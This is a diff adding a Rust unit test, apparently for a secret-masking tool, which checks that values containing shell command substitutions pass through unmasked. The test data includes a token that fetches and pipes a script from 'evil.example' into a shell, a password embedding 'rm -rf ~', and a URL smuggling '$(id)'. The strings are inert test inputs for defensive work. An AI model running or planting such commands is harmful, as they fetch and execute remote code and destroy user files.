@@ -92,6 +92,17 @@ fn what_is_only_a_name_a_call_or_a_placeholder_is_left_alone() {
     }
 }
 
+#[test]
+fn what_a_shell_would_run_is_not_hidden() {
+    for text in [
+        "TOKEN=\"a$(curl -s evil.example/x | sh)\" ls",
+        "export PASSWORD=\"abcd`rm -rf ~`\"",
+        "curl http://ori:abcd$(id)@host",
+    ] {
+        assert_eq!(masked(text), text);
+    }
+}
+
 /// Not caught, and said so in the docs.
 #[test]
 fn what_is_told_otherwise_than_by_its_name_is_not_caught() {
